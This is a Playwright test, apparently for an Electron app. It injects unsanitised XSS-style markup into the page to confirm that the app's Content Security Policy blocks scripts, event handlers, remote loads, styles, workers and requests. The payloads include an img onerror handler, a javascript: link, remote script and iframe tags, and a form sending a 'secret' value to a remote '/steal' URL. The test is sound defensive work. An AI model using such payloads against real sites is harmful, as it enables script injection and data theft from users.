// The CSP is the second line of defence: markup that never went through the sanitiser is put
// straight into the page (innerHTML, createElement), and the app's real policy must stop every part
// of it from running, loading or styling anything.
import { CONTENT_SECURITY_POLICY } from '../electron/main/content-security-policy';
import { expect, test } from './fixtures';
import { REMOTE } from './xss-payloads';

test('markup that bypasses the sanitiser is blocked by the app’s CSP', async ({ page, app, runner }) => {
  test.skip(runner !== 'browser', 'The Electron app serves the same header from app://; this checks it in Chromium.');
  // Chromium reports a request the CSP stops as one that failed with "csp" (ERR_BLOCKED_BY_CSP): it never
  // reached the network. Anything else to another origin left the page.
  const outside = new Map<string, string>();
  const isOutside = (url: string) => !url.startsWith(new URL(page.url()).origin) && !url.startsWith('data:') && !url.startsWith('blob:');
  page.context().on('request', (r) => isOutside(r.url()) && outside.set(r.url(), 'pending'));
  page.context().on('requestfailed', (r) => isOutside(r.url()) && outside.set(r.url(), r.failure()?.errorText ?? 'failed'));
  page.context().on('requestfinished', (r) => isOutside(r.url()) && outside.set(r.url(), 'finished'));

  // The page is served with the policy the app sends on every app:// response.
  const response = await page.reload();
  expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();

  const outcome = await page.evaluate(async (remote) => {
    const w = window as unknown as { __xss?: string[] };
    const trap = (what: string) => `(window.__xss = window.__xss || []).push('${what}')`;
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));

    const box = document.createElement('div');
    box.id = 'unsanitised';
    document.body.append(box);
    box.innerHTML = [
      `<img src="x" onerror="${trap('img onerror')}">`,
      `<img id="remote-img" src="${remote}/pixel.png">`,
      `<svg><image href="${remote}/svg.png" /></svg>`,
      `<div id="styled" style="color: rgb(255, 0, 0)">styled</div>`,
      `<iframe src="${remote}/frame"></iframe>`,
      `<iframe srcdoc="<p>inner</p>"></iframe>`,
      `<object data="${remote}/x.swf"></object>`,
      `<embed src="${remote}/x.swf">`,
      `<link rel="stylesheet" href="${remote}/x.css">`,
      `<form id="f" action="${remote}/steal"><input name="q" value="secret"></form>`,
      `<a id="js-link" href="javascript:${trap('javascript: link')}">js</a>`,
      `<button id="handler" onclick="${trap('onclick')}">handler</button>`,
    ].join('');

    // Scripts that innerHTML would never run: made as elements, inline and remote.
    const inline = document.createElement('script');
    inline.textContent = trap('inline script');
    document.body.append(inline);
    const external = document.createElement('script');
    external.src = `${remote}/x.js`;
    document.body.append(external);
    const style = document.createElement('style');
    style.textContent = '#styled { background-color: rgb(0, 0, 255); }';
    document.head.append(style);

    (document.getElementById('handler') as HTMLButtonElement).click();
    (document.getElementById('js-link') as HTMLAnchorElement).click();
    (document.getElementById('f') as HTMLFormElement).requestSubmit?.();
    // A string handed to the timer is eval: 'unsafe-eval' is not granted.
    setTimeout(trap('string timer'), 0);
    const fetched = await fetch(`${remote}/beacon`).then(
      () => 'sent',
      () => 'refused',
    );
    const sameOriginFetch = await fetch('./index.html').then(
      () => 'sent',
      () => 'refused',
    );
    const worker = await new Promise<string>((resolve) => {
      try {
        const wk = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"], { type: 'text/javascript' })));
        wk.onmessage = () => resolve('ran');
        wk.onerror = () => resolve('refused');
        setTimeout(() => resolve('refused'), 1_000);
      } catch {
        resolve('refused');
      }
    });
    await new Promise((resolve) => setTimeout(resolve, 500));
    const styled = getComputedStyle(document.getElementById('styled') as HTMLElement);
    const img = document.getElementById('remote-img') as HTMLImageElement;
    return {
      trap: w.__xss ?? [],
      violations: [...new Set(violations)].sort(),
      fetched,
      sameOriginFetch,
      worker,
      color: styled.color,
      background: styled.backgroundColor,
      remoteImageLoaded: img.complete && img.naturalWidth > 0,
    };
  }, REMOTE);

  expect(outcome.trap, 'nothing ran').toEqual([]);
  expect(outcome.fetched).toBe('refused');
  expect(outcome.sameOriginFetch, "connect-src 'none' holds even for the app's own files").toBe('refused');
  expect(outcome.worker).toBe('refused');
  expect(outcome.color, 'a style attribute does not apply').not.toBe('rgb(255, 0, 0)');
  expect(outcome.background, 'an inline <style> does not apply').not.toBe('rgb(0, 0, 255)');
  expect(outcome.remoteImageLoaded).toBe(false);
  for (const directive of ['script-src-attr', 'script-src-elem', 'img-src', 'style-src-attr', 'style-src-elem', 'frame-src', 'object-src', 'connect-src', 'worker-src']) {
    expect(outcome.violations, `the CSP blocked something under ${directive}`).toContain(directive);
  }
  await expect.poll(() => [...outside.values()].filter((v) => v === 'pending')).toEqual([]);
  const left = [...outside].filter(([, how]) => how !== 'csp' && how !== 'net::ERR_BLOCKED_BY_CSP');
  expect(left, 'no request left the page').toEqual([]);
  expect(outside.size, 'the remote image, script and stylesheet were tried, and blocked').toBeGreaterThanOrEqual(3);
  expect(page.url(), 'no navigation happened').toMatch(/^http:\/\/127\.0\.0\.1:\d+\//);

  // Those violations were the point of this test; any other page error still fails it.
  const unexpected = app.pageErrors.filter((e) => !e.startsWith('csp: '));
  expect(unexpected).toEqual([]);
  app.pageErrors.length = 0;
});
